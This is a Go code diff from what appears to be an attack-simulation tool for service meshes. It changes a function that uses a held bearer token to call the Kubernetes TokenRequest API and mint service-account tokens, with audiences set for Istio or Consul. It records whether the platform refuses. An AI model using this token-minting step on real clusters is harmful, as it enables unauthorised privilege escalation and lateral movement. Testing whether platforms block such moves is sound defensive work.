@@ -32,13 +32,17 @@ func account(t attacker.Target, name string) (string, error) {
 // travels as the user agent, which the API writes down.
 func (a asking) minted(ctx context.Context, f attacker.Foothold, nonce string) (string, attacker.Observation) {
 	namespace, name, _ := strings.Cut(a.mint, "/")
+	spec := "{}" // for the platform itself, which is whom Consul asks about it
+	if a.authority.Protocol == protocolIstio {
+		spec = `{"audiences":["` + audienceIstio + `"]}`
+	}
 	body, o := f.Fetch(ctx, attacker.Knock{
 		Nonce: nonce, Address: a.authority.Platform, Protocol: attacker.ProtocolHTTP2, Method: "POST",
 		Path: "/api/v1/namespaces/" + namespace + "/serviceaccounts/" + name + "/token",
 		Headers: map[string][]string{
 			"authorization": {"Bearer " + a.token}, "content-type": {"application/json"}, "user-agent": {nonce},
 		},
-		Body: `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"audiences":["` + audienceIstio + `"]}}`,
+		Body: `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":` + spec + `}`,
 		TLS:  &attacker.TLS{ServerName: "kubernetes.default.svc", ALPN: []string{"h2"}},
 	})
 	if o.Refusal != nil {
